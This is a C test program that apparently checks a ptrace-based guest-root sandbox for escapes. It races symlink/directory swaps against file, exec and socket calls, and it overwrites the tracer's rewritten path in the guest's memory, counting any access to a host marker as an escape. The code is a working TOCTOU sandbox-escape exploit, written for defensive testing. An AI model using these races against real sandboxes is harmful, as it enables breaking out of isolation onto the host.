/* race swaps a path component between a directory and a symlink that
 * leads out of the guest root ("/" or "../../..", which the kernel would
 * resolve on the host), with renameat2(RENAME_EXCHANGE) in one thread,
 * while other threads open, stat and create through that component. The
 * tracer checks and rewrites the path at the syscall's entry; the kernel
 * resolves the rewritten host path afterwards: if the component is a
 * symlink by then, the kernel follows it on the host.
 *
 * A last phase races the tracer's own write instead: the translated path
 * is written into the guest's memory (below the stack pointer), where
 * another thread of the guest can overwrite it with a host path before the
 * kernel reads it.
 *
 * argv: 1 host path of the marker, 2 its content, 3 milliseconds per
 * phase, 4 host path of the guest root, 5 (optional) the guest directory
 * to race in (default /tmp/race; /dev/shm/... races inside a bind). For each phase and call it prints
 *   race-CALL-TARGET: attempts N escapes M
 * An escape is the marker's content read (open), a successful stat, access
 * or chmod of a name that exists only on the host, the text of a host
 * symlink beside the marker (MARKER.link) read, a host program beside it
 * (MARKER.exe, a copy of this one) run, a connection to a
 * socket listening on the host beside the marker (MARKER.sock), or a file
 * or directory created (creat, mkdir: the test also looks for them in the
 * host directory). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *content;
static char hostrel[4096], hostdirrel[4096];
static volatile int stop;
/* The directory raced in, and the two names swapped there. */
static const char *base = "/tmp/race";
static char dira[4096], dirb[4096];
static long ms;

static void *swapper(void *arg) {
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, dira, AT_FDCWD, dirb, 2 /* RENAME_EXCHANGE */);
	return 0;
}

struct attack { const char *call; long attempts, escapes; int id; };

static void *attacker(void *arg) {
	struct attack *a = arg;
	char p[8192], buf[256];
	for (long i = 0; !stop; i++) {
		a->attempts++;
		if (!strcmp(a->call, "open")) {
			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
			int fd = open(p, O_RDONLY);
			if (fd >= 0) {
				ssize_t n = read(fd, buf, sizeof buf - 1);
				close(fd);
				buf[n > 0 ? n : 0] = 0;
				if (strstr(buf, content)) a->escapes++;
			}
		} else if (!strcmp(a->call, "openat2")) {
			unsigned long long how[3] = { O_RDONLY, 0, 0 };
			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
			int fd = syscall(437 /* SYS_openat2 */, AT_FDCWD, p, how, sizeof how);
			if (fd >= 0) {
				ssize_t n = read(fd, buf, sizeof buf - 1);
				close(fd);
				buf[n > 0 ? n : 0] = 0;
				if (strstr(buf, content)) a->escapes++;
			}
		} else if (!strcmp(a->call, "stat")) {
			struct stat st;
			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
			if (stat(p, &st) == 0) a->escapes++;
		} else if (!strcmp(a->call, "access")) {
			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
			if (access(p, F_OK) == 0) a->escapes++;
		} else if (!strcmp(a->call, "chmod")) {
			/* The marker's own mode: an escape changes nothing. */
			snprintf(p, sizeof p, "%s/%s", dira, hostrel);
			if (chmod(p, 0644) == 0) a->escapes++;
		} else if (!strcmp(a->call, "readlink")) {
			/* A symlink beside the marker whose text is the content. */
			snprintf(p, sizeof p, "%s/%s.link", dira, hostrel);
			ssize_t n = readlink(p, buf, sizeof buf - 1);
			buf[n > 0 ? n : 0] = 0;
			if (n > 0 && strstr(buf, content)) a->escapes++;
		} else if (!strcmp(a->call, "exec")) {
			/* A copy of this program beside the marker, on the host:
			 * run as "exit42", it exits with 42. */
			snprintf(p, sizeof p, "%s/%s.exe", dira, hostrel);
			pid_t pid = fork();
			if (pid == 0) {
				execl(p, p, "exit42", (char *)0);
				_exit(1);
			}
			int st;
			if (pid > 0 && waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 42) a->escapes++;
		} else if (!strcmp(a->call, "connect")) {
			/* A listening socket beside the marker, on the host. */
			struct sockaddr_un sa = { .sun_family = AF_UNIX };
			snprintf(sa.sun_path, sizeof sa.sun_path, "%s/%s.sock", dira, hostrel);
			int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (s >= 0 && connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) a->escapes++;
			if (s >= 0) close(s);
		} else if (!strcmp(a->call, "mkdir")) {
			snprintf(p, sizeof p, "%s/%s/RACE-%d-%ld", dira, hostdirrel, a->id, i);
			if (mkdir(p, 0755) == 0) a->escapes++;
		} else {
			snprintf(p, sizeof p, "%s/%s/RACE-%d-%ld", dira, hostdirrel, a->id, i);
			int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
			if (fd >= 0) { close(fd); a->escapes++; }
		}
	}
	return 0;
}

static void phase(const char *target, const char *call) {
	unlink(dira);
	unlink(dirb);
	rmdir(dira);
	rmdir(dirb);
	mkdir(base, 0755);
	mkdir(dira, 0755);
	symlink(target, dirb);
	stop = 0;
	pthread_t sw, at[2];
	static int id;
	struct attack a[2] = { { call, 0, 0, id++ }, { call, 0, 0, id++ } };
	pthread_create(&sw, 0, swapper, 0);
	for (int i = 0; i < 2; i++) pthread_create(&at[i], 0, attacker, &a[i]);
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000 };
	nanosleep(&ts, 0);
	stop = 1;
	pthread_join(sw, 0);
	for (int i = 0; i < 2; i++) pthread_join(at[i], 0);
	printf("race-%s-%s: attempts %ld escapes %ld\n", call, target[0] == '/' ? "root" : "dotdot",
		a[0].attempts + a[1].attempts, a[0].escapes + a[1].escapes);
}

/* The memory race: the opener runs on a stack of ours, which the
 * overwriter scans for the translated path and replaces in place. */
static char opener_stack[1 << 20] __attribute__((aligned(16)));
static char translated[4096], hostpath[4096];
static long mem_attempts, mem_escapes;

static void *opener(void *arg) {
	char buf[256];
	while (!stop) {
		mem_attempts++;
		int fd = open("/etc/hostname", O_RDONLY);
		if (fd < 0) continue;
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		buf[n > 0 ? n : 0] = 0;
		if (strstr(buf, content)) mem_escapes++;
	}
	return arg;
}

static void *overwriter(void *arg) {
	size_t tl = strlen(translated), hl = strlen(hostpath) + 1;
	char *lo = opener_stack + sizeof opener_stack - (64 << 10);
	while (!stop) {
		char *q = memmem(lo, opener_stack + sizeof opener_stack - lo, translated, tl);
		if (q) memcpy(q, hostpath, hl);
	}
	return arg;
}

static void memory_phase(void) {
	stop = 0;
	pthread_attr_t at;
	pthread_attr_init(&at);
	pthread_attr_setstack(&at, opener_stack, sizeof opener_stack);
	pthread_t o, w;
	pthread_create(&o, &at, opener, 0);
	pthread_create(&w, 0, overwriter, 0);
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000 };
	nanosleep(&ts, 0);
	stop = 1;
	pthread_join(o, 0);
	pthread_join(w, 0);
	printf("race-open-memory: attempts %ld escapes %ld\n", mem_attempts, mem_escapes);
}

int main(int argc, char **argv) {
	if (argc == 2 && !strcmp(argv[1], "exit42")) return 42;
	if (argc < 5) return 2;
	snprintf(hostrel, sizeof hostrel, "%s", argv[1] + 1);
	snprintf(hostdirrel, sizeof hostdirrel, "%s", hostrel);
	*strrchr(hostdirrel, '/') = 0;
	content = argv[2];
	ms = atol(argv[3]);
	if (argc > 5) base = argv[5];
	snprintf(dira, sizeof dira, "%s/a", base);
	snprintf(dirb, sizeof dirb, "%s/b", base);
	setvbuf(stdout, 0, _IONBF, 0);
	const char *targets[] = { "/", "../../../../../../../../../.." };
	const char *calls[] = { "open", "openat2", "stat", "creat", "access", "chmod", "mkdir", "readlink", "connect", "exec" };
	for (int t = 0; t < 2; t++)
		for (int c = 0; c < 10; c++)
			phase(targets[t], calls[c]);
	if (argc > 5) return 0; /* the memory race is the same anywhere */
	snprintf(translated, sizeof translated, "%s/etc/hostname", argv[4]);
	snprintf(hostpath, sizeof hostpath, "%s", argv[1]);
	memory_phase();
	return 0;
}
